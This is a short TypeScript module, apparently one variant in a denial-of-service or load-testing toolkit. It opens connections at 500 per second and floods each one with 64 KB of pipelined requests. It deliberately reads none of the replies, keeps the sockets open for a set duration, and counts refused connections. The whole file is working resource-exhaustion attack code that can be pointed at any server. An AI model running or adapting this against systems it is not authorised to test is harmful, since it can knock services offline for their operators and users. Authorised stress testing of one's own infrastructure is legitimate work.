// Connections that send at once as many requests as a server reads in one chunk, read no answer, and stay for a while.

import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from './attack';
import { openConnections } from './open-connections';

const CHUNK = 64 * 1024;
const PER_SECOND = 500;

/** Resolves with the number of connections that could not be opened. */
export async function askAhead(attack: Extract<Attack, { kind: 'ahead' }>): Promise<number> {
  const requests = Buffer.from(attack.request.repeat(Math.floor(CHUNK / attack.request.length)), 'latin1');
  const sockets: Socket[] = [];
  const { refused } = await openConnections({ ...attack, perSecond: PER_SECOND }, (socket) => {
    sockets.push(socket);
    socket.pause();
    socket.write(requests);
  });
  await sleep(attack.forMs);
  for (const socket of sockets) socket.destroy();
  return refused;
}
